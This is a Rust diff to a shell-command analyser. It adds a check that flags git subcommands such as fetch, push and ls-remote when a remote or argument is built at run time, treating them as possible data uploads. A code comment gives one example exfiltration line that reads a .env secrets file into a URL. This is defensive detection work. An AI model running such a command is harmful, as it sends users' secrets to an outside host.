@@ -284,6 +284,17 @@ pub(super) fn read(words: &[ShellArg], out: &mut Vec<Finding>) {
     let positionals: Vec<&ShellArg> =
         rest.iter().filter(|w| !(w.is_known() && w.text.starts_with('-'))).collect();
     let first = positionals.first().map(|p| p.text.as_str());
+    // A command that talks to a remote sends what its words say: a remote's URL or name,
+    // a refspec or an option built at run time can carry data out
+    // (`git ls-remote https://x/$(cat .env)`), as a URL built at run time does for curl.
+    if REMOTE_COMMANDS.contains(&sub)
+        && let Some(word) = rest.iter().find(|w| !w.is_known())
+    {
+        out.push(Finding::Uploads(format!(
+            "`git {sub}` contacts a remote with `{}`, built at run time",
+            word.raw
+        )));
+    }
     match sub {
         "config" => config::read(rest, out),
         "clone" => {
@@ -404,6 +415,20 @@ pub(super) fn read(words: &[ShellArg], out: &mut Vec<Finding>) {
         _ => {}
     }
 }
+
+/// Subcommands that contact a remote named or configured by their words.
+const REMOTE_COMMANDS: [&str; 10] = [
+    "fetch",
+    "pull",
+    "ls-remote",
+    "clone",
+    "remote",
+    "submodule",
+    "archive",
+    "fetch-pack",
+    "push",
+    "send-pack",
+];
 
 /// Positional words of `git clone`, skipping the values of its value-taking options.
 fn clone_positionals(rest: &[ShellArg]) -> Vec<&ShellArg> {
